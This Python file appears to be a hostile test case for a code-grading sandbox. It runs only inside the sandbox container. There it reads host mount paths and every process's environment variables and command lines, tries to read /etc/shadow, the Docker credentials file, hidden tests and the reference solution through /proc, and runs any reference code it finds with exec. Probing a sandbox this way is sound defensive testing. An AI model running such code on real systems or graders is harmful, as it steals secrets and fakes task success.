"""Hostile (docker only): reads host files and other processes' secrets through /proc.

It reads /proc/self/mountinfo (host paths), every visible process's environ and
cmdline, and tries the repository through /proc/<pid>/root and /proc/<pid>/cwd:
FOUND-REFERENCE or FOUND-TEST mark a hit (a found reference would be used).
Outside the sandbox container it does nothing but raise.
"""

import os
import sys

# In the sandbox image: the worker is /opt/graders/worker.py, run as nobody (65534).
IN_SANDBOX = sys.argv[0] == "/opt/graders/worker.py" and os.getuid() == 65534

if not IN_SANDBOX:
    raise ImportError("this attack only runs inside the sandbox container")
GUESSES = ["work/main/reference/q3_decorator.py", "reference/q3_decorator.py",
           "work/main/challenges/q3_decorator/hidden/test_core.py", "etc/shadow",
           "root/.docker/config.json"]


def _read(path, limit=4096):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode(errors="replace")
    except OSError:
        return None


print("mountinfo:", (_read("/proc/self/mountinfo") or "")[:1500])
pids = [p for p in os.listdir("/proc") if p.isdigit()]
for pid in pids:
    print(f"pid {pid}: {(_read(f'/proc/{pid}/cmdline') or '').replace(chr(0), ' ')[:200]}")
    environ = _read(f"/proc/{pid}/environ")
    if environ:
        print(f"environ {pid}: {environ.replace(chr(0), ' ')[:500]}")
    for base in (f"/proc/{pid}/root", f"/proc/{pid}/cwd", f"/proc/{pid}/cwd/.."):
        for guess in GUESSES:
            text = _read(os.path.join(base, guess), 200_000)
            if text and "def ttl_cache(" in text:
                print(f"FOUND-REFERENCE: {base}/{guess}")
                exec(compile(text, "<found>", "exec"))  # noqa: S102 - the attack
                break
            if text and "def test_" in text:
                print(f"FOUND-TEST: {base}/{guess}")
            elif text:
                print(f"read {base}/{guess}: {len(text)} characters")
if "ttl_cache" not in globals():
    raise ImportError("nothing useful in /proc")
